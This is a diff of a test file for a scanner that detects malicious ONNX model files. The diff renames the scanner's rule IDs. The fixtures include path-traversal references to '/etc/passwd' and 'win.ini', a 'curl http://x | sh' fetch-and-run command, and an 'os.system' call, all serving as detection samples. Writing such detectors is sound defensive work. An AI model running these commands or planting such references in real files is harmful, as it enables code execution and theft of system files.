@@ -31,15 +31,15 @@ test('large weights are hashed, the graph around them is parsed', () => {
 
 describe('data in other files', () => {
   const locations: readonly (readonly [string, string])[] = [
-    ['../../../etc/passwd', 'ONX-001'],
-    ['/etc/passwd', 'ONX-001'],
-    ['C:\\Windows\\win.ini', 'ONX-001'],
-    ['sub/../../x', 'ONX-001'],
-    ['file:///etc/passwd', 'ONX-001'],
-    ['..\\x', 'ONX-001'],
-    ['weights.bin', 'ONX-003'],
-    ['a..b/weights.bin', 'ONX-003'],
-    ['', 'ONX-005'],
+    ['../../../etc/passwd', 'MDL-ONX-001'],
+    ['/etc/passwd', 'MDL-ONX-001'],
+    ['C:\\Windows\\win.ini', 'MDL-ONX-001'],
+    ['sub/../../x', 'MDL-ONX-001'],
+    ['file:///etc/passwd', 'MDL-ONX-001'],
+    ['..\\x', 'MDL-ONX-001'],
+    ['weights.bin', 'MDL-ONX-003'],
+    ['a..b/weights.bin', 'MDL-ONX-003'],
+    ['', 'MDL-ONX-005'],
   ];
   test.each(locations)('%j', (location, rule) => {
     expect(scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location })])).rules).toContain(rule);
@@ -48,19 +48,19 @@ describe('data in other files', () => {
   test('is found in the attribute of a node of a subgraph, and in functions', () => {
     const external = block(5, block(8, 'e'), int(2, 1), entry(13, 'location', '/etc/passwd'), int(14, 1));
     const branch = attribute(block(6, block(1, block(4, 'Constant'), attribute(external))));
-    expect(scanBytes(makeOnnx([...graph, node('If', '', branch)])).rules).toContain('ONX-001');
+    expect(scanBytes(makeOnnx([...graph, node('If', '', branch)])).rules).toContain('MDL-ONX-001');
     const inFunction = block(25, block(1, 'f'), block(10, 'own'), block(7, block(4, 'Constant'), attribute(external)));
-    expect(scanBytes(makeOnnx(graph, inFunction)).rules).toContain('ONX-001');
+    expect(scanBytes(makeOnnx(graph, inFunction)).rules).toContain('MDL-ONX-001');
   });
 
   test('keys that the format does not define and offsets that are no numbers are told', () => {
     const scan = scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location: 'w.bin', offset: '-1', __class__: 'x' })]));
-    expect(scan.observations.filter((each) => each.ruleId === 'ONX-005')).toHaveLength(2);
+    expect(scan.observations.filter((each) => each.ruleId === 'MDL-ONX-005')).toHaveLength(2);
   });
 
   test('a finding shows the path and the bytes', () => {
     const found = scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location: '/etc/passwd' })])).observations.find(
-      (each) => each.ruleId === 'ONX-001',
+      (each) => each.ruleId === 'MDL-ONX-001',
     );
     expect(found?.evidence?.fields).toContainEqual({ pointer: 'external_data/location', value: '/etc/passwd' });
     expect(Buffer.from(found?.evidence?.bytes?.hex ?? '', 'hex').toString('latin1')).toContain('/etc/passwd');
@@ -69,8 +69,8 @@ describe('data in other files', () => {
 
 describe('operators', () => {
   test("of a foreign domain are medium, of one that runs code high, of the model's own functions fine", () => {
-    expect(scanBytes(makeOnnx([...graph, node('Evil', 'com.evil')])).severities.get('ONX-002')).toBe('medium');
-    expect(scanBytes(makeOnnx([...graph, node('PyOp', 'ai.onnx.contrib')])).severities.get('ONX-002')).toBe('high');
+    expect(scanBytes(makeOnnx([...graph, node('Evil', 'com.evil')])).severities.get('MDL-ONX-002')).toBe('medium');
+    expect(scanBytes(makeOnnx([...graph, node('PyOp', 'ai.onnx.contrib')])).severities.get('MDL-ONX-002')).toBe('high');
     expect(
       scanBytes(makeOnnx([...graph, node('f', 'own')], block(25, block(1, 'f'), block(10, 'own'), block(7, block(4, 'Relu'))))).rules,
     ).toEqual([]);
@@ -80,7 +80,7 @@ describe('operators', () => {
   });
 
   test('with compiled code are told', () => {
-    expect(scanBytes(makeOnnx([...graph, node('EPContext', 'com.microsoft')])).rules).toEqual(['ONX-006']);
+    expect(scanBytes(makeOnnx([...graph, node('EPContext', 'com.microsoft')])).rules).toEqual(['MDL-ONX-006']);
   });
 });
 
@@ -90,14 +90,14 @@ test('text that acts is found in doc strings, metadata and attributes', () => {
     makeOnnx(graph, entry(14, 'k', 'os.system("id")')),
     makeOnnx([...graph, node('Constant', '', attribute(block(4, 'curl http://x | sh')))]),
   ])
-    expect(scanBytes(text).rules).toEqual(['ONX-004']);
+    expect(scanBytes(text).rules).toEqual(['MDL-ONX-004']);
 });
 
 describe('structure', () => {
   test('a tensor that carries other bytes than its shape needs is told', () => {
-    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [4, 2], 8)])).rules).toEqual(['ONX-005']);
-    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [-1n], 8)])).rules).toEqual(['ONX-005']);
-    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [2n ** 40n, 2n ** 40n], 8)])).rules).toEqual(['ONX-005']);
+    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [4, 2], 8)])).rules).toEqual(['MDL-ONX-005']);
+    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [-1n], 8)])).rules).toEqual(['MDL-ONX-005']);
+    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [2n ** 40n, 2n ** 40n], 8)])).rules).toEqual(['MDL-ONX-005']);
   });
 
   test('graphs nested without end reach the limit and keep what was found', () => {
@@ -105,17 +105,17 @@ describe('structure', () => {
     for (let depth = 0; depth < 100; depth += 1) inner = node('If', '', attribute(block(6, inner)));
     const scan = scanBytes(makeOnnx([...graph, node('Other', 'com.other'), inner]));
     expect(scan.outcome).toBe('limit');
-    expect(scan.rules).toContain('ONX-002');
+    expect(scan.rules).toContain('MDL-ONX-002');
   });
 
   test('a cut file is unreadable and keeps what was found', () => {
     const bytes = makeOnnx([...graph, node('Evil', 'com.evil')], entry(14, 'k', 'v'.repeat(100)));
     const scan = scanBytes(bytes.subarray(0, bytes.length - 50));
     expect(scan.outcome).toBe('unreadable');
-    expect(scan.rules).toEqual(['ONX-002', 'ONX-005']);
+    expect(scan.rules).toEqual(['MDL-ONX-002', 'MDL-ONX-005']);
   });
 
   test('a second graph is told', () => {
-    expect(scanBytes(concat(makeOnnx(graph), block(7, ...graph))).rules).toEqual(['ONX-005']);
+    expect(scanBytes(concat(makeOnnx(graph), block(7, ...graph))).rules).toEqual(['MDL-ONX-005']);
   });
 });
